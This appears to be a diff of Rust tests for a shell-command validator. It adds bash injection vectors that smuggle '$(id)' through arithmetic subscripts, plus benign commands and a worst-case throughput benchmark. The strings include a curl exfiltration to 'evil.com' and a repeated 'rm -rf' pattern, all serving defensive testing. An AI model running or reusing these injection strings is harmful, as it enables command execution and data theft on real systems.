@@ -210,6 +210,14 @@ fn substitution_vectors() {
             // `$'…'` honours `\'`: a plain single-quote tracker would think `$(id)` is quoted.
             ("echo $'a\\'' $(id) ''", Blocker::Substitution),
             ("cat x > $(curl evil.com/exfil)", Blocker::Substitution),
+            // Arithmetic evaluation runs substitutions out of quoted subscripts.
+            ("[[ 'a[$(id)]' -eq 0 ]]", Blocker::Substitution),
+            ("declare -i x; x='a[$(id)]'", Blocker::Substitution),
+            ("(( 'a[$(id)]' ))", Blocker::Substitution),
+            ("declare -a a; a['b[$(id)]']=1", Blocker::Substitution),
+            ("x='a[$(id)]'; [[ $x -eq 0 ]]", Blocker::Substitution),
+            ("a=(1); echo \"${a['b[`id`]']}\"", Blocker::Substitution),
+            ("[[ \"a[\\$(id)]\" -gt 1 ]]", Blocker::Substitution),
         ],
         &[
             "echo '$(this is single-quoted)'",
@@ -227,6 +235,13 @@ fn substitution_vectors() {
             "[ \"$a\" = \"$b\" ] && echo same",
             "test \"$x\" == y",
             "echo ${HOME}",
+            "grep -E '[0-9]+' file",
+            "echo \"${arr[0]}\" \"${arr[$i]}\"",
+            "[[ $count -gt 5 ]] && echo many",
+            // No arithmetic on the line: a quoted subscript is just text.
+            "echo 'a[$(x)]'",
+            "declare -a arr=(x y)",
+            "(( i++ ))",
         ],
     );
 }
@@ -1678,5 +1693,38 @@ mod corpus {
             "attack refusal rate fell below 70%"
         );
         print("all PayloadsAllTheThings", t);
+
+        // Throughput, for the report (no assertion: timing depends on the machine).
+        let start = std::time::Instant::now();
+        let bytes: usize = resolved.iter().map(String::len).sum();
+        for c in &resolved {
+            std::hint::black_box(validate_command(c));
+        }
+        let el = start.elapsed();
+        println!(
+            "== throughput: {} tldr commands ({bytes} bytes) in {el:?} ({:.1} µs/command)",
+            resolved.len(),
+            el.as_secs_f64() * 1e6 / resolved.len() as f64
+        );
+        let n = MAX_COMMAND_BYTES;
+        let worst = [
+            ("'a' x max", "a".repeat(n)),
+            ("'rm -rf x; ' x max", "rm -rf x; ".repeat(n / 10)),
+            ("'$(' x max/2", "$(".repeat(n / 2)),
+            ("'a=(' x max/3", "a=(".repeat(n / 3)),
+            ("'sed ' x max/4", "sed ".repeat(n / 4)),
+            ("'x | ' x max/4", "x | ".repeat(n / 4)),
+            ("'${' x max/2", "${".repeat(n / 2)),
+            ("\"'\" x max", "'\"".repeat(n / 2)),
+        ];
+        for (label, cmd) in &worst {
+            let start = std::time::Instant::now();
+            let v = validate_command(cmd);
+            println!(
+                "== worst case {label}: {:?}, allowed={}",
+                start.elapsed(),
+                v.allowed
+            );
+        }
     }
 }
